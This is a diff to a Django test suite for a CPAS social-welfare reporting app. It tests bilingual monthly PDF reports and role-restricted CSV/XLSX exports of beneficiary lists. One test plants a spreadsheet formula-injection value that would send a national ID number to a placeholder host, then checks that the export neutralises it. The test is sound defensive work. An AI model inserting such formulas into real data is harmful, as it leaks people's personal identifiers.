@@ -264,7 +264,7 @@ def test_director_downloads_a_report_of_their_cpas_only(
     response = client.get(reverse("rapports:telecharger", args=[mien.pk]))
     assert response.status_code == 200
     assert b"".join(response.streaming_content) == b"%PDF-1.7 test"
-    assert "rapport-isp-alpha-2025-05.pdf" in response["Content-Disposition"]
+    assert "rapport-isp-alpha-2025-05-fr.pdf" in response["Content-Disposition"]
     assert client.get(reverse("rapports:telecharger", args=[autre.pk])).status_code == 404
     page = client.get(reverse("rapports:mensuels"))
     assert list(page.context["rapports"]) == [mien]
@@ -298,7 +298,7 @@ def test_asking_for_a_past_month_queues_its_generation(
         EtatRapport.EN_ATTENTE,
     )
     assert rapport.demande_par == directeur
-    assert envoyes == [(cpas_a.pk, "2025-03-01", directeur.pk, rapport.tache_id)]
+    assert envoyes == [(cpas_a.pk, "2025-03-01", directeur.pk, "fr", rapport.tache_id)]
     page = client_for(directeur).get(reverse("rapports:mensuels"))
     assert 'hx-trigger="every 2s"' in page.content.decode()  # the page refreshes itself
 
@@ -367,3 +367,161 @@ def test_people_behind_a_number_are_logged(donnees, cpas_a, make_user, client_fo
     assert shown == [personnes[0].pk] and response.context["masques"] == 7
     row = JournalAcces.objects.filter(user=agent).latest("id")
     assert sorted(row.personnes) == shown
+
+
+def test_director_asks_for_the_report_in_the_other_language(
+    historique,
+    make_user,
+    client_for,
+    monkeypatch,
+    settings,
+    tmp_path,
+    django_capture_on_commit_callbacks,
+):
+    """A Dutch-speaking director of a French-speaking CPAS: the form offers the CPAS's
+    language by default, Dutch on demand; the Dutch report is a report of its own."""
+    import re
+    import shutil
+    import subprocess
+
+    from rapports import tasks
+
+    settings.MEDIA_ROOT = tmp_path
+    cpas_a, _ = historique
+    envoyes = []
+
+    def executer(args, task_id):  # the worker, in this process
+        envoyes.append(args)
+        return tasks.generer_rapport_mensuel.apply(args=args, task_id=task_id)
+
+    monkeypatch.setattr(tasks.generer_rapport_mensuel, "apply_async", executer)
+    directeur = make_user(Role.DIRECTEUR, cpas_a, langue="nl")
+    client = client_for(directeur)
+    page = client.get(reverse("rapports:mensuels")).content.decode()
+    choix = re.search(r'<select name="langue"[^>]*>(.*?)</select>', page, re.S).group(1)
+    assert re.search(r'<option value="fr" selected>', choix)  # the CPAS's language
+    for langue in ("nl", "fr"):
+        with django_capture_on_commit_callbacks(execute=True):
+            client.post(reverse("rapports:demander"), {"mois": "2025-12", "langue": langue})
+    assert [a[3] for a in envoyes] == ["nl", "fr"]
+    rapports = {r.langue: r for r in RapportMensuel.objects.filter(mois=datetime.date(2025, 12, 1))}
+    assert set(rapports) == {"nl", "fr"} and all(r.telechargeable for r in rapports.values())
+    if not shutil.which("pdftotext"):
+        pytest.fail("pdftotext (poppler-utils) is required")
+    textes = {}
+    for langue, r in rapports.items():
+        reponse = client.get(reverse("rapports:telecharger", args=[r.pk]))
+        assert f"rapport-isp-alpha-2025-12-{langue}.pdf" in reponse["Content-Disposition"]
+        chemin = tmp_path / f"{langue}.pdf"
+        chemin.write_bytes(b"".join(reponse.streaming_content))
+        textes[langue] = subprocess.run(
+            ["pdftotext", str(chemin), "-"], capture_output=True, check=True
+        ).stdout.decode()
+    assert "Maandrapport SPI" in textes["nl"] and "Rapport mensuel ISP" not in textes["nl"]
+    assert "Rapport mensuel ISP" in textes["fr"]
+    liste = client.get(reverse("rapports:mensuels")).content.decode()
+    assert 'id="rapport-2025-12-fr"' in liste and 'id="rapport-2025-12-nl"' in liste
+
+
+def test_a_report_in_an_unknown_language_is_refused(cpas_a, make_user, client_for):
+    directeur = make_user(Role.DIRECTEUR, cpas_a)
+    response = client_for(directeur).post(
+        reverse("rapports:demander"), {"mois": "2025-03", "langue": "de"}, follow=True
+    )
+    assert response.status_code == 200
+    assert "Sélectionnez un choix valide" in response.content.decode()
+    assert not RapportMensuel.objects.exists()
+
+
+# --- Exports of the lists behind the numbers ----------------------------------------------
+
+
+def _liste_url(**extra):
+    from urllib.parse import urlencode
+
+    params = {"indicateur": "ris_eris", "date": timezone.localdate().isoformat(), **extra}
+    return reverse("rapports:personnes") + "?" + urlencode(params)
+
+
+def _csv(response):
+    return b"".join(response.streaming_content).decode().lstrip("\ufeff").splitlines()
+
+
+def _lignes_de_la_page(client, **params):
+    """Every row of the list page (all its pages), as its three columns show them."""
+    lignes, numero = [], 1
+    while True:
+        page = client.get(_liste_url(page=numero, **params)).context["page"]
+        for b in page.object_list:
+            lignes.append([str(b), b.niss_affiche, str(b.referent) if b.referent_id else "—"])
+        if not page.has_next():
+            return lignes
+        numero += 1
+
+
+def test_coordinator_exports_the_list_behind_a_number(donnees, cpas_a, make_user, client_for):
+    import csv
+
+    from openpyxl import load_workbook
+
+    from cpas_isp.models import JournalAcces
+
+    _agent, personnes = donnees
+    personnes[0].nom = '=HYPERLINK("http://x.example/?"&B2,"Voir")'
+    personnes[0].save()
+    coordinateur = make_user(Role.COORDINATEUR, cpas_a)
+    client = client_for(coordinateur)
+    assert 'id="export-personnes"' in client.get(_liste_url()).content.decode()
+    page = [[c if c != "—" else "" for c in ligne] for ligne in _lignes_de_la_page(client)]
+    assert len(page) == 8
+
+    avant = JournalAcces.objects.count()
+    rangs = list(csv.reader(_csv(client.get(_liste_url(format="csv"))), delimiter=";"))
+    assert rangs[0] == ["Nom", "NISS", "Référent"]
+    neutralise = [["'" + n if n.startswith("=") else n, *reste] for n, *reste in page]
+    assert rangs[1:] == neutralise  # the page's rows, the formula made plain text
+    assert any(r[0].startswith("'=HYPERLINK") for r in rangs)
+    # One access-log row naming every exported person.
+    assert JournalAcces.objects.count() == avant + 1
+    journal = JournalAcces.objects.filter(user=coordinateur).latest("id")
+    assert sorted(journal.personnes) == sorted(b.pk for b in personnes)
+    assert "export CSV" in journal.objet
+
+    xlsx = client.get(_liste_url(format="xlsx"))
+    ws = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
+    rows = [list(r) for r in ws.iter_rows(values_only=True)]
+    assert rows[0] == ["Nom", "NISS", "Référent"]
+    assert rows[1:] == [[c or None for c in ligne] for ligne in page]
+    formule = next(c for c in ws["A"] if str(c.value).startswith("="))
+    assert formule.data_type == "s" and formule.quotePrefix  # text, never a formula
+
+
+@pytest.mark.parametrize("role", [Role.AGENT, Role.DIRECTEUR, Role.ADMIN, Role.PARTENAIRE])
+def test_other_roles_cannot_export_the_list_behind_a_number(
+    donnees, cpas_a, make_user, client_for, role
+):
+    from cpas_isp.models import JournalAcces
+
+    user = make_user(role, cpas_a, cellule="emploi" if role == Role.AGENT else None)
+    client = client_for(user)
+    if role == Role.AGENT:  # sees the list, without the export buttons
+        html = client.get(_liste_url()).content.decode()
+        assert 'id="liste-personnes"' in html and 'id="export-personnes"' not in html
+    avant = JournalAcces.objects.filter(user=user).count()
+    for format in ("csv", "xlsx"):
+        response = client.get(_liste_url(format=format))
+        assert response.status_code in (403, 404)
+        assert not response.has_header("Content-Disposition")
+    assert JournalAcces.objects.filter(user=user).count() == avant
+
+
+def test_export_of_the_list_keeps_the_need_to_know_scope(
+    donnees, cpas_a, cpas_b, make_user, client_for
+):
+    """The coordinator of another CPAS exports their own CPAS's people, never cpas_a's."""
+    _peupler(cpas_b, 3)
+    client = client_for(make_user(Role.COORDINATEUR, cpas_b))
+    lignes = _csv(client.get(_liste_url(format="csv")))
+    assert {ligne.split(";")[1] for ligne in lignes[1:]} == {
+        b.niss_affiche for b in cpas_b.beneficiaires.all()
+    }
